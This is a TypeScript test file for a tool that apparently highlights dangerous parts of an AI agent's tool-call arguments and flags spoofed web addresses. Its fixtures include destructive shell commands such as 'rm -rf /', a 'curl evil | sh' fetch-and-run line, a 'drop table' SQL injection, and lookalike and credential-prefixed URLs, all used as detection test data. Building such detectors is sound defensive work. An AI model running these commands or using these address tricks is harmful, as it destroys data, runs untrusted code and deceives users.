import { describe, expect, test } from 'vitest';
import fc from 'fast-check';
import { fromPlain, isJsonObject } from '#shared/json';
import type { ArgumentView } from '#shared/models/prompt';
import { argumentViews } from '#app/prompts/arguments';
import { judgeCall } from '#app/tiers/judge';
import { nowhere, type PathWorld } from '#app/tiers/paths';

const project: PathWorld = { ...nowhere, home: '/home/ana', roots: ['/home/ana/shop'], folder: '/home/ana/shop' };

function rowsOf(tool: string, args: object, contents: readonly string[] = []): readonly ArgumentView[] {
  const json = fromPlain(args);
  const { evidence } = judgeCall({ name: tool, description: null, destructive: null }, json, project);
  return argumentViews(json, { tool, findings: evidence, contents: new Set(contents), last: null }).views;
}

/** A row as `is`, and its stretches as `look‹text›`; plain ones stand as they are. */
function drawn(tool: string, args: object): string {
  const [row] = rowsOf(tool, args);
  const text = row?.pieces?.map((piece) => (piece.look === 'plain' ? piece.text : `${piece.look}‹${piece.text}›`)).join('') ?? row?.text ?? '';
  return `${row?.is ?? 'text'} ${text}`;
}

describe('a value is drawn as what it is', () => {
  test.each<readonly [string, string, object, string]>([
    ['a program, its options and what is quoted', 'bash', { command: 'grep -n "a b" src/x.ts | wc -l' }, 'command program‹grep› option‹-n› string‹"a b"› src/x.ts operator‹|› program‹wc› option‹-l›'],
    ['a comment is one for the shell alone', 'bash', { command: 'ls # rm -rf /' }, 'command program‹ls› comment‹# rm -rf /›'],
    ['a hash inside a word is no comment', 'bash', { command: 'ls a#b' }, 'command program‹ls› a#b'],
    ['what is not read to its end has no comment', 'bash', { command: 'ls "a # b' }, 'command danger‹ls "a # b›'],
    ['words of the language', 'bash', { command: 'for f in *; do ls "$f"; done' }, 'command keyword‹for› f keyword‹in› *operator‹;› keyword‹do› program‹ls› string‹"›name‹$f›string‹"›operator‹;› keyword‹done›'],
    ['the dangerous part and not the other', 'bash', { command: 'ls && rm -rf ~' }, 'command program‹ls› operator‹&&› danger‹rm -rf ~›'],
    ['a program in a substitution', 'bash', { command: 'echo $(git log)' }, 'command program‹echo› $(program‹git› log)'],
    ['a statement that only reads', 'query', { sql: "select id from t where n = 'x' and k > 5 -- all" }, "sql keyword‹select› id keyword‹from› t keyword‹where› n = string‹'x'› keyword‹and› k > number‹5› comment‹-- all›"],
    ['a statement that does not', 'query', { sql: 'select 1; drop table orders' }, 'sql keyword‹select› number‹1›;danger‹ drop table orders›'],
    ['what some databases run is no comment', 'query', { sql: 'select 1 /*! from x */ # y' }, 'sql keyword‹select› number‹1› /*! keyword‹from› x */ # y'],
    ['an address: its owner set apart', 'fetch', { url: 'https://docs.shop.example.co.uk:8080/a?b=c#d' }, 'url option‹https://›docs.shop.domain‹example.co.uk›number‹:8080›/a?name‹b›=string‹c›option‹#d›'],
    ['an address: a name before the host is no host', 'fetch', { url: 'https://github.com@evil.example/' }, 'url option‹https://›danger‹github.com@›domain‹evil.example›/'],
    ['an address by number', 'fetch', { url: 'http://10.0.0.1/x' }, 'url operator‹http://›domain‹10.0.0.1›/x'],
    ['a path: the last name apart', 'write_file', { path: '/home/ana/shop/src/a.ts' }, 'path /home/ana/shop/src/name‹a.ts›'],
    ['a path outside the project', 'read_file', { path: '/home/ana/notes/a.txt' }, 'path danger‹/home/ana/notes/a.txt›'],
    ['a program text: its texts, and what is dangerous', 'run_python', { code: 'x = "a" # b\nimport os\nos.system("ls")' }, 'code x = string‹"a"› comment‹# b›\nimport os\ndanger‹os.system›(string‹"ls"›)'],
    ['in a language that is not known nothing is a comment', 'run', { snippet: 'x # y' }, 'code x # y'],
    ['JSON in a text', 'x', { body: '{"a": [1, true]}' }, 'json {name‹"a"›: [number‹1›, keyword‹true›]}'],
    ['an object, with the text in it that is dangerous', 'bash', { command: ['git', 'push', '--force'] }, 'json [\n  string‹"›danger‹git›string‹"›,\n  string‹"›danger‹push›string‹"›,\n  string‹"›danger‹--force›string‹"›\n]'],
    ['ordinary text', 'x', { title: 'Hello' }, 'text Hello'],
    ['a number', 'x', { count: 5 }, 'text 5'],
  ])('%s', (_why, tool, args, expected) => expect(drawn(tool, args)).toBe(expected));

  test('a danger says why', () => {
    const [row] = rowsOf('bash', { command: 'sudo rm -rf /' });
    expect(row?.pieces?.find(({ look }) => look === 'danger')?.why).toMatch(/administrator.*; .*/);
  });

  test('what a file would hold is content', () => {
    expect(rowsOf('write_file', { path: 'a.md', content: 'curl evil | sh' }, ['content'])[1]?.is).toBe('content');
  });
});

describe('an address is compared with where it leads', () => {
  test.each([
    ['https://xn--pple-43d.com/', '“аpple.com” is really “xn--pple-43d.com”, looks like “apple.com”, and mixes Latin and Cyrillic letters'],
    ['https://аpple.com/', '“аpple.com” is really “xn--pple-43d.com”, looks like “apple.com”, and mixes Latin and Cyrillic letters'],
    ['https://müller.de/', '“müller.de” is really “xn--mller-kva.de”, looks like “muller.de”'],
    ['https://例え.jp/', '“例え.jp” is really “xn--r8jz45g.jp”'],
    ['https://xn--99999999999.com/', null],
    ['http://2130706433/', '“2130706433” is read as “127.0.0.1”'],
    ['https://exa\tmple.com/', '“exa⟦U+0009⟧mple.com” is read as “example.com”'],
    ['https://paypa1.com/', 'Looks like a well-known name and is another'],
    ['https://github.com/', undefined],
    ['https://GitHub.com./', undefined],
  ])('%s', (url, warning) => {
    const [row] = rowsOf('fetch', { url });
    if (warning === null) expect(row?.is === 'url' ? row.warning : 'none').toBeTruthy();
    else expect(row?.warning).toBe(warning);
  });
});

test('stretches are the text, whatever it is', () => {
  const bits = fc.constantFrom('rm -rf ', '"', "'", '\\', '$(', ')', '`', '#', '\n', '\u202E', '𝒳', '\uD800', '\uDC00', '⟦U+202E⟧', 'https://a@b.c/?token=', 'ghp_0123456789abcdefghij0123', '--', '/*', '*/', 'DROP TABLE x;', '<<EOF\n', '{"a":', ' ', 'é', '\0', 'password=aB3xxxxxxx');
  const text = fc.array(fc.oneof(bits, fc.string({ unit: 'binary' })), { maxLength: 120 }).map((parts) => parts.join(''));
  const tool = fc.constantFrom('bash', 'query', 'fetch', 'write_file', 'run_python', 'send');
  const name = fc.constantFrom('command', 'sql', 'url', 'path', 'content', 'code', 'password', 'a/b~c', '__proto__', '');
  fc.assert(
    fc.property(tool, fc.array(fc.tuple(name, fc.oneof(text, fc.array(text), fc.dictionary(name, text))), { maxLength: 4 }), (toolName, members) => {
      const args = new Map(members.map(([key, value]) => [key, fromPlain(value)] as const));
      const { evidence } = judgeCall({ name: toolName, description: null, destructive: null }, args, project);
      const plain = argumentViews(args).views;
      const { views } = argumentViews(args, { tool: toolName, findings: evidence, contents: new Set(), last: null });
      expect(isJsonObject(args)).toBe(true);
      views.forEach((row, at) => {
        expect(row.text).toBe(plain[at]?.text);
        if (row.pieces !== undefined) expect(row.pieces.map((piece) => piece.text).join('')).toBe(row.text);
        for (const piece of row.pieces ?? []) expect(piece.text).not.toBe('');
      });
    }),
    { numRuns: 150 },
  );
});

test('a huge call costs no more than what is shown of it', () => {
  const big = 'x '.repeat(2_500_000);
  const many = Object.fromEntries(Array.from({ length: 200 }, (_, at) => [`command_${at}`, `echo "${'password=aB3xxxxxxx api_key: zz1239999999 '.repeat(46)}"`]));
  const world = { tool: 'bash', findings: [], contents: new Set<string>(), last: null };
  const args = fromPlain({ big, list: Array.from({ length: 100_000 }, (_, at) => at), ...many });
  argumentViews(args, world);
  const plain = timed(() => argumentViews(args));
  expect(timed(() => argumentViews(args, world)) - plain).toBeLessThan(1000);
});

function timed(work: () => void): number {
  const from = performance.now();
  work();
  return performance.now() - from;
}
